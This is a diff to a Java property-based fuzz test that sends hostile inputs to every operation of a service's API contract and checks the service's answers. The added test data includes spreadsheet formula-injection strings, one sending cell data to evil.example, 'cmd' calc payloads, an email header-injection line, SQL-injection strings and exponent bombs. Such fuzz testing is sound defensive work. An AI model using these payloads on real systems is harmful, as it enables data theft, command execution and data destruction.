@@ -43,16 +43,19 @@ import org.junit.jupiter.api.TestFactory;
 /**
  * Property-based fuzzing of every operation in the committed contract (openapi/openapi.yaml). For
  * each operation, {@link #TRIES} requests each make one input hostile — a parameter (control
- * characters and NUL, overlong text, huge, negative and non-numbers, malformed dates, wrong enum
- * values, path traversal, unusual Unicode, SQL), a parameter the operation does not declare, or the
- * body (truncated or deeply nested JSON, wrong member types, huge arrays, binary, NUL in a member)
+ * characters and NUL, overlong text, huge, negative and non-numbers, huge and tiny exponents,
+ * malformed dates, wrong enum values, path traversal, unusual Unicode, SQL, formula starts and
+ * noncharacters), a parameter the operation does not declare, or the body (truncated or deeply
+ * nested JSON, wrong member types, numbers with huge exponents, huge arrays, binary, NUL in a member)
  * — and fill the other required inputs with the contract's examples. Every answer must hold:
  * <ul>
  * <li>no 5xx;</li>
  * <li>every 4xx is problem+json (or the HTML page the contract names for it), and a 400 caused by
  * a parameter names a parameter of the operation; a 400 for broken JSON says where it broke;</li>
  * <li>no stack trace, class name or SQL in any body;</li>
- * <li>a refused request (4xx) changed no row in any table;</li>
+ * <li>a refused request (4xx) changed no row in any table (but the sign-up counters, which count refused sign-ups);</li>
+ * <li>no answer over 1 MB for a request under 1 KB, a Location only as a relative reference, and no request thread still
+ * working after the answer ({@link #checkAnswer});</li>
  * <li>the answer matches the contract (checked by {@link ContractValidation}, as for every test).</li>
  * </ul>
  * Generation is seeded, by default from the commit under test (see {@link #commitSeed()}): a
@@ -93,6 +96,7 @@ public class ApiFuzzTest {
             return Map.of("drivecat.rate-limits.recommend-per-minute", "0",
                     "drivecat.rate-limits.export-per-minute", "0",
                     "drivecat.rate-limits.pools-per-minute", "0",
+                    "drivecat.rate-limits.drive-per-minute", "0",
                     "drivecat.digest.signups-per-client", "1000000",
                     "quarkus.mailer.mock", "true");
         }
@@ -179,15 +183,24 @@ public class ApiFuzzTest {
 
     @TestFactory
     Stream<DynamicTest> everyOperationSurvivesHostileInput() throws Exception {
-        JsonNode contract = new ObjectMapper(new YAMLFactory()).readTree(Files.readString(ContractValidation.CONTRACT));
+        return operations().stream().map(op -> DynamicTest.dynamicTest(op.key(), () -> fuzz(op)));
+    }
+
+    /** The committed contract, read as a tree. */
+    static JsonNode contract() throws java.io.IOException {
+        return new ObjectMapper(new YAMLFactory()).readTree(Files.readString(ContractValidation.CONTRACT));
+    }
+
+    /** Every operation of the committed contract (outside /q/): operations added later are fuzzed without a change here. */
+    static List<Operation> operations() throws java.io.IOException {
         List<Operation> operations = new ArrayList<>();
-        contract.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(method -> {
+        contract().path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(method -> {
             if (method.getValue().has("responses") && !path.getKey().startsWith("/q/")) {
                 operations.add(new Operation(method.getKey(), path.getKey(), method.getValue()));
             }
         }));
         assertThat(operations).as("operations in the contract").hasSizeGreaterThan(20);
-        return operations.stream().map(op -> DynamicTest.dynamicTest(op.key(), () -> fuzz(op)));
+        return operations;
     }
 
     private void fuzz(Operation op) throws Exception {
@@ -252,7 +265,7 @@ public class ApiFuzzTest {
         return new Attempt(target, kind, query, path, contentType, body, malformed);
     }
 
-    private static String validBody(Operation op, String contentType) {
+    static String validBody(Operation op, String contentType) {
         if (contentType.contains("json")) {
             return BODIES.getOrDefault(op.key(), "{}");
         }
@@ -271,7 +284,12 @@ public class ApiFuzzTest {
         return HTML;
     }
 
-    private static Response send(Operation op, Attempt attempt) {
+    static Response send(Operation op, Attempt attempt) {
+        return send(op, attempt, null);
+    }
+
+    /** As {@link #send(Operation, Attempt)}, asking for {@code accept} (null: REST Assured's default, any type). */
+    static Response send(Operation op, Attempt attempt, String accept) {
         // the request target is encoded here, byte by byte: REST Assured would read braces in a value as a template
         String target = op.path();
         for (Map.Entry<String, String> parameter : attempt.path().entrySet()) {
@@ -284,7 +302,14 @@ public class ApiFuzzTest {
         }
         RequestSpecification request = RestAssured.given().urlEncodingEnabled(false)
                 .config(RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
-                        .appendDefaultContentCharsetToContentTypeIfUndefined(false)));
+                        .appendDefaultContentCharsetToContentTypeIfUndefined(false))
+                        // a request that keeps the service busy is given up on; WorkerPool then names the busy thread
+                        .httpClient(io.restassured.config.HttpClientConfig.httpClientConfig()
+                                .setParam("http.socket.timeout", ANSWER_TIMEOUT_MILLIS)
+                                .setParam("http.connection.timeout", ANSWER_TIMEOUT_MILLIS)));
+        if (accept != null) {
+            request.accept(accept);
+        }
         if (op.admin()) {
             request.header("Authorization", "Bearer " + TOKEN);
         }
@@ -296,6 +321,43 @@ public class ApiFuzzTest {
             request.contentType(attempt.contentType()).body(attempt.body());
         }
         return request.when().request(op.method().toUpperCase(Locale.ROOT), target).andReturn();
+    }
+
+    /** How long a client waits for an answer before it gives up (and the worker pool is checked for the request's work). */
+    static final int ANSWER_TIMEOUT_MILLIS = 60_000;
+
+    /** The largest answer a request under 1 KB may get: no request multiplies into a huge answer. */
+    static final int MAX_ANSWER_BYTES = 1_000_000;
+
+    /** The size of the request as sent: its target and its body. */
+    static int requestBytes(Operation op, Attempt attempt) {
+        int target = op.path().length();
+        for (String value : attempt.path().values()) {
+            target += percentEncoded(value).length();
+        }
+        for (Map.Entry<String, String> q : attempt.query().entrySet()) {
+            target += percentEncoded(q.getKey()).length() + percentEncoded(q.getValue()).length() + 2;
+        }
+        return target + (attempt.body() == null ? 0 : attempt.body().length);
+    }
+
+    /**
+     * What every answer must hold whatever was sent, checked by every generic test: no 5xx, no answer
+     * over 1 MB for a request under 1 KB (nor over 4 times a larger request), a Location only as a relative reference (never built from
+     * the Host header a client chooses), and no request thread still working after the answer.
+     */
+    static void checkAnswer(String what, int requestBytes, Response response) {
+        String body = response.asString();
+        assertThat(response.statusCode()).as("no 5xx for %s; answer: %s", what, body.length() > 2000 ? body.substring(0, 2000) : body)
+                .isLessThan(500);
+        // no request multiplies into a much larger answer: under 1 MB for a small request, at most 4 times a large one
+        assertThat(response.asByteArray().length).as("the answer's size to %s (a request of %d bytes)", what, requestBytes)
+                .isLessThan(Math.max(MAX_ANSWER_BYTES, 4 * requestBytes));
+        String location = response.header("Location");
+        if (location != null) {
+            assertThat(location).as("the Location of the answer to %s", what).startsWith("/").doesNotStartWith("//");
+        }
+        dev.drivecat.testing.WorkerPool.assertIdleAfter(what);
     }
 
     /** RFC 3986 percent-encoding of the UTF-8 bytes, leaving only unreserved characters as they are. */
@@ -316,7 +378,7 @@ public class ApiFuzzTest {
         String what = attempt.describe(op) + " (seed " + SEED + ")";
         int status = response.statusCode();
         String body = response.asString();
-        assertThat(status).as("no 5xx for %s; answer: %s", what, body).isLessThan(500);
+        checkAnswer(what, requestBytes(op, attempt), response);
         assertThat(LEAK.matcher(withoutEchoes(body, attempt)).find())
                 .as("no stack trace, class name or SQL in the answer to %s: %s", what, body).isFalse();
         if (status < 400) {
@@ -375,13 +437,16 @@ public class ApiFuzzTest {
         return texts;
     }
 
-    /** Rows in every table of the database, by table. */
+    /**
+     * Rows in every table of the database, by table; but the sign-up counters, which count refused
+     * sign-ups on purpose (a client's invalid sign-ups use its allowance too).
+     */
     private static Map<String, Long> rowCounts() {
         String jdbc = ConfigProvider.getConfig().getValue("quarkus.datasource.jdbc.url", String.class);
         try (Connection c = DriverManager.getConnection(jdbc, "postgres", ""); Statement s = c.createStatement()) {
             List<String> tables = new ArrayList<>();
             try (ResultSet rs = s.executeQuery("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' "
-                    + "AND table_type = 'BASE TABLE' AND table_name <> 'flyway_schema_history' ORDER BY table_name")) {
+                    + "AND table_type = 'BASE TABLE' AND table_name NOT IN ('flyway_schema_history', 'signup_counter') ORDER BY table_name")) {
                 while (rs.next()) {
                     tables.add(rs.getString(1));
                 }
@@ -421,7 +486,8 @@ public class ApiFuzzTest {
         NUMBER {
             @Override
             String value(Random r) {
-                return oneOf(r, "99999999999999999999999", "-1", "-9223372036854775809", "9223372036854775808", "2147483648",
+                return r.nextInt(3) == 0 ? oneOf(r, EXPONENTS.toArray(String[]::new))
+                        : oneOf(r, "99999999999999999999999", "-1", "-9223372036854775809", "9223372036854775808", "2147483648",
                         "1e308", "1e-400", "-0", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "1,5", "0.0000001", "+7", " 5 ");
             }
         },
@@ -455,6 +521,13 @@ public class ApiFuzzTest {
             String value(Random r) {
                 return oneOf(r, "' OR 1=1 --", "\"; DROP TABLE drive; --", "%", "_", "\\", "'", "$$", "1; SELECT pg_sleep(0)");
             }
+        },
+        /** What a spreadsheet runs as a formula, what XML forbids, what breaks a header line. */
+        INJECTED_TEXT {
+            @Override
+            String value(Random r) {
+                return oneOf(r, INJECTED_TEXTS.toArray(String[]::new));
+            }
         };
 
         abstract String value(Random r);
@@ -463,6 +536,19 @@ public class ApiFuzzTest {
             return values()[r.nextInt(values().length)];
         }
     }
+
+    /**
+     * Numbers whose scale explodes when written out (1e100000000 took a core for minutes in a page's
+     * money format; 1e1000000000 in a JSON member made a 1 GB error message) or lies past PostgreSQL's
+     * numeric scale (1e-100000 was a 500).
+     */
+    static final List<String> EXPONENTS = List.of("1e100000000", "1e999999999", "-1e999999999", "1e-100000", "1E+2147483647",
+            "1e-2147483647");
+
+    /** Text a page or an import may carry: formula starts, control characters, noncharacters, a forged header line. */
+    static final List<String> INJECTED_TEXTS = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "Seller\u0001\u000b\u001f", "Seller\ufffe\uffff\ufdd0",
+            "Model\r\nBcc: victim@evil.example", "\u007f\u0085\u009f", "\udbff\udfff\ud800");
 
     /** Hostile bodies, by kind; {@code malformed} ones are not JSON at all. */
     enum HostileBody {
@@ -498,6 +584,12 @@ public class ApiFuzzTest {
             byte[] body(String valid, Random r) {
                 Hostile hostile = Hostile.pick(r);
                 return mutateLeaf(valid, r, JsonNodeFactory.instance.textNode(hostile.value(r)));
+            }
+        },
+        HUGE_EXPONENT(false) {
+            @Override
+            byte[] body(String valid, Random r) {
+                return mutateLeaf(valid, r, JsonNodeFactory.instance.numberNode(new java.math.BigDecimal(oneOf(r, EXPONENTS.toArray(String[]::new)))));
             }
         },
         HUGE_ARRAY(false) {
